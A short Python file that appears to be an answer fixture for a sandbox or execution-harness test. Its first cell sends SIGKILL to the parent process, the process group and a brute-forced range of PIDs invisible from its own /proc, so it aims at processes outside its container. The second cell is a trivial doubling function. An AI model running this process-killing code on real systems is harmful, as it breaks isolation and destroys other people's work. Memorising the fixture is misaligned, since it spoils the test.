"""Signals every process whose number it can guess outside its box: parents, groups, sessions."""
# expects: axis=2 double=4
# %% axis-answer
import os
import signal

for number in (os.getppid(), -os.getpgid(0) if os.getpgid(0) != os.getpid() else 0):
    if number not in (0, -1, 1):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
for number in range(2, 60_000, 1):
    if number != os.getpid() and not os.path.exists(f"/proc/{number}"):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
kind = "reduction"
# %% double-answer
def double(x):
    return 2 * x
